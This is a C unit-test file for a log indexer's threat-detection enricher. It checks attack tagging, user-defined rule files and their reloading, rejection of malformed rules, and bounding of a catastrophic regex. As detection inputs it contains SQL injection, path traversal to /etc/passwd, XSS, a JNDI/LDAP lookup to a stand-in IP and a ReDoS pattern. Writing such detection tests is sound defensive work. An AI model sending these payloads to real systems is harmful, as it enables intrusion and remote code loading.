/*
 * test_threat.c - the enricher on records, rules of users, files that change.
 */
#include "indexer/enrich/enrich.h"

#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>

#include "common/record.h"
#include "common/scope.h"
#include "indexer/config.h"
#include "indexer/enrich/agent_memo.h"
#include "indexer/enrich/threat/book.h"
#include "indexer/enrich/threat/inspector.h"

struct fixture {
    struct indexer_config config;
    struct enrich *enrich;
    struct agent_memo *agents;
    struct arena arena;
    struct record record;
    char path[64], *files[1];
    char *out;
};

static void write_rules(struct fixture *f, const char *text)
{
    scoped_file FILE *file = fopen(f->path, "we");

    assert_non_null(file);
    assert_true(fputs(text, file) >= 0);
}

static void open_enricher(struct fixture *f)
{
    struct error err;

    if (agent_memo_open(&f->config, &f->agents, &err) ||
        enrich_threat.open(&f->config, &f->enrich, &err))
        fail_msg("%s", err.text);
    f->enrich->agents = f->agents;
}

static int set_up(void **state)
{
    struct fixture *f = calloc(1, sizeof(*f));

    *state = f;
    snprintf(f->path, sizeof(f->path), "/tmp/alpex-threat-XXXXXX");
    close(mkstemp(f->path));
    f->files[0] = f->path;
    f->config.threats = (struct threats_config){
        .enabled = true, .threshold = 5, .cache_entries = 16, .engine = (char *)"auto"};
    arena_init(&f->arena, 64u << 10, 64u << 20);
    record_init(&f->record, &f->arena);
    return 0;
}

static int tear_down(void **state)
{
    struct fixture *f = *state;

    enrich_threat.close(f->enrich);
    agent_memo_close(f->agents);
    unlink(f->path);
    arena_release(&f->arena);
    free(f->out);
    free(f);
    return 0;
}

/* The record of `json` after the enricher, as JSON; valid until the next call. */
static const char *enriched(struct fixture *f, const char *json)
{
    uint64_t invalid = 0;
    size_t len;

    record_clear(&f->record);
    assert_int_equal(record_decode(&f->record, slice_of(json), NULL), OK);
    assert_true(f->enrich->type->apply(f->enrich, &f->record));
    free(f->out);
    f->out = malloc(record_encode_bound(&f->record) + 1);
    len = record_encode(&f->record, f->out, &invalid);
    f->out[len] = '\0';
    return f->out;
}

static void assert_has(const char *text, const char *part)
{
    if (!strstr(text, part))
        fail_msg("no %s in %s", part, text);
}

static void assert_has_not(const char *text, const char *part)
{
    if (strstr(text, part))
        fail_msg("%s in %s", part, text);
}

static void attacks_are_told_with_category_score_and_rules(void **state)
{
    struct fixture *f = *state;
    const char *out;

    open_enricher(f);
    out = enriched(f, "{\"url\":{\"original\":\"/?id=1%20union%20select%201,2\"}}");
    assert_has(out, "\"threat\":true");
    assert_has(out, "\"categories\":[\"sql_injection\"]");
    assert_has(out, "\"sqli-union-select\"");
    assert_has(out, "\"score\":10");
    out = enriched(f, "{\"url\":{\"path\":\"/x\",\"query\":\"f=../../etc/passwd\"}}");
    assert_has(out, "\"path_traversal\",\"file_inclusion\"");
    out = enriched(f, "{\"user_agent\":{\"original\":\"${jndi:ldap://203.0.113.1/a}\"}}");
    assert_has(out, "\"java_injection\"");
    out = enriched(f, "{\"http\":{\"request\":{\"referrer\":\"https://e.example/?q=<script>\"}}}");
    assert_has(out, "\"xss\"");
}

/* The slashes behind "https:" are no evasion, all others may be. */
static void slashes_do_not_hide_attacks_in_referrers(void **state)
{
    struct fixture *f = *state;

    open_enricher(f);
    assert_has(enriched(f, "{\"http\":{\"request\":{\"referrer\":"
                           "\"https://e.example/etc//./passwd\"}}}"),
               "\"file_inclusion\"");
    assert_has(enriched(f, "{\"http\":{\"request\":{\"referrer\":"
                           "\"http://./etc/passwd\"}}}"),
               "\"file_inclusion\"");
    assert_has(enriched(f, "{\"http\":{\"request\":{\"referrer\":"
                           "\"https:///etc//passwd\"}}}"),
               "\"file_inclusion\"");
}

static void benign_records_are_no_threat(void **state)
{
    struct fixture *f = *state;
    const char *out;

    open_enricher(f);
    out = enriched(f, "{\"url\":{\"original\":\"/select-a-plan?q=union+of+workers\"},"
                      "\"user_agent\":{\"original\":\"Mozilla/5.0 (X11; Linux x86_64)\"},"
                      "\"security\":{\"threat\":true,\"score\":9,\"rules\":[\"x\"]}}");
    assert_has(out, "\"security\":{\"threat\":false}"); /* what was said before is gone */
}

static void records_without_a_request_are_left_alone(void **state)
{
    struct fixture *f = *state;

    open_enricher(f);
    assert_has_not(enriched(f, "{\"message\":\"' or 1=1 --\"}"), "security");
    assert_has_not(enriched(f, "{\"url\":{\"original\":\"\"}}"), "security");
    assert_has_not(enriched(f, "{\"url\":7,\"user_agent\":[],\"http\":\"x\"}"), "security");
}

/* An agent that was seen is not looked at again, and is found all the same. */
static void kept_agents_are_found_again(void **state)
{
    struct fixture *f = *state;
    const char *agent =
        "{\"url\":{\"original\":\"/\"},\"user_agent\":{\"original\":\"sqlmap/1.7\"}}";

    open_enricher(f);
    for (int i = 0; i < 3; i++)
        assert_has(enriched(f, agent), "\"rules\":[\"scanner-agent\"]");
}

static void long_texts_are_looked_at_at_both_ends(void **state)
{
    struct fixture *f = *state;
    char *json = malloc(100100);

    open_enricher(f);
    for (int at_end = 0; at_end < 2; at_end++) {
        memset(json, 'a', 100000);
        memcpy(json, "{\"url\":{\"original\":\"/?q=", 24);
        memcpy(json + (at_end ? 100000 - 30 : 30), "&q=%3Cscript%3E", 15);
        memcpy(json + 100000, "\"}}", 4);
        assert_has(enriched(f, json), "\"xss-script\"");
    }
    free(json);
}

static const char own_rules[] = "category: own\n"
                                "rules:\n"
                                "  - id: own-rule\n"
                                "    score: 7\n"
                                "    pattern: forbidden-\\d+\n"
                                "    unless: forbidden-7\n";

static void users_add_rules_and_switch_others_off(void **state)
{
    struct fixture *f = *state;
    char *disabled[] = {"xss-script"};

    write_rules(f, own_rules);
    f->config.threats.files = f->files;
    f->config.threats.file_count = 1;
    f->config.threats.disabled_rules = disabled;
    f->config.threats.disabled_rule_count = 1;
    f->config.threats.threshold = 8;
    open_enricher(f);
    assert_has(enriched(f, "{\"url\":{\"original\":\"/forbidden-12\"}}"),
               "\"threat\":false,\"categories\":[\"own\"],\"score\":7,\"rules\":[\"own-rule\"]");
    assert_has_not(enriched(f, "{\"url\":{\"original\":\"/forbidden-7\"}}"), "own-rule");
    assert_has_not(enriched(f, "{\"url\":{\"original\":\"/?q=<script>\"}}"), "xss-script");
}

/* A file that has changed is left until it rests. */
static void look_twice(struct fixture *f, int64_t now_ms)
{
    f->enrich->type->refresh(f->enrich, now_ms);
    f->enrich->type->refresh(f->enrich, now_ms + 1000);
}

static void changed_files_are_read_anew_and_wrong_ones_are_not(void **state)
{
    struct fixture *f = *state;
    const char *url = "{\"url\":{\"original\":\"/forbidden-1\"}}";

    write_rules(f, own_rules);
    f->config.threats.files = f->files;
    f->config.threats.file_count = 1;
    open_enricher(f);
    assert_has(enriched(f, url), "\"score\":7");
    write_rules(f,
                "category: own\nrules:\n  - id: own-rule\n    score: 9\n    pattern: forbidden\n");
    look_twice(f, 10000);
    assert_has(enriched(f, url), "\"score\":9");
    write_rules(
        f, "category: own\nrules:\n  - id: own-rule\n    score: 3\n    pattern: '(forbidden'\n");
    look_twice(f, 20000);
    assert_has(enriched(f, url), "\"score\":9");
    unlink(f->path);
    look_twice(f, 30000);
    assert_has(enriched(f, url), "\"score\":9");
}

static void wrong_files_are_refused_with_their_line(void **state)
{
    static const struct {
        const char *text, *problem;
    } samples[] = {
        {"rules: 5\n", ":1: rules"},
        {"category: a\nrules:\n  - id: x\n    score: 5\n    pattern: '['\n",
         ":5: pattern: not a regular"},
        {"category: a\nrules:\n  - id: x\n    score: 50\n    pattern: a\n", ":4: score"},
        {"category: a\nrules:\n  - id: X y\n    score: 5\n    pattern: a\n", ":3: id"},
        {"category: a\nrules:\n  - id: x\n    score: 5\n", ":3: pattern: missing"},
        {"rules:\n  - id: x\n    score: 5\n    pattern: a\n", ": category"},
        {"category: a\nrules:\n  - id: x\n    score: 5\n    pattern: a\n    in: [body]\n",
         ":6: in"},
        {"category: a\nrules:\n  - id: x\n    score: 5\n    pattern: a\n    view: raw\n",
         ":6: view"},
        {"category: a\nrules:\n  - id: x\n    score: 5\n    patern: a\n", ":3: pattern: missing"},
        {"category: a\nrules:\n  - id: x\n    score: 5\n    pattern: '{{no}}'\n", "is not defined"},
        {"category: a\nrules:\n  - id: x\n    score: 5\n    pattern: [a, {b: c}]\n", ":5: pattern"},
        {"category: a\nrules: [x]\n", ":2: rules"},
        {"a: [", ""},
    };
    struct fixture *f = *state;
    struct config_report report;
    struct threat_book *book;
    struct error err;

    f->config.threats.files = f->files;
    f->config.threats.file_count = 1;
    for (size_t i = 0; i < ARRAY_LEN(samples); i++) {
        write_rules(f, samples[i].text);
        config_report_init(&report);
        assert_int_equal(threat_book_open(&f->config.threats, &report, &book, &err), REJECT);
        assert_has(err.text, f->path);
        assert_has(err.text, samples[i].problem);
        config_report_release(&report);
    }
}

/* Steps are bounded: a pattern that could try for ever gives up, and the rest goes on. */
static void a_catastrophic_pattern_is_bounded(void **state)
{
    struct fixture *f = *state;
    char json[16200];

    write_rules(f, "category: own\nrules:\n  - id: slow\n    score: 5\n"
                   "    pattern: 'z(?:a+)+$|z(?:a|aa)+b'\n");
    f->config.threats.files = f->files;
    f->config.threats.file_count = 1;
    open_enricher(f);
    memset(json, 'a', sizeof(json));
    memcpy(json, "{\"url\":{\"original\":\"/z", 22);
    memcpy(json + sizeof(json) - 16, "!<script>\"}}", 13);
    json[sizeof(json) - 1] = '\0';
    assert_has(enriched(f, json), "\"xss-script\"");
}

static void switched_off_it_does_nothing(void **state)
{
    struct fixture *f = *state;
    struct error err;

    f->config.threats.enabled = false;
    assert_int_equal(enrich_threat.open(&f->config, &f->enrich, &err), DONE);
}

int main(void)
{
#define CASE(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)
    const struct CMUnitTest tests[] = {
        CASE(attacks_are_told_with_category_score_and_rules),
        CASE(slashes_do_not_hide_attacks_in_referrers),
        CASE(benign_records_are_no_threat),
        CASE(records_without_a_request_are_left_alone),
        CASE(kept_agents_are_found_again),
        CASE(long_texts_are_looked_at_at_both_ends),
        CASE(users_add_rules_and_switch_others_off),
        CASE(changed_files_are_read_anew_and_wrong_ones_are_not),
        CASE(wrong_files_are_refused_with_their_line),
        CASE(a_catastrophic_pattern_is_bounded),
        CASE(switched_off_it_does_nothing),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
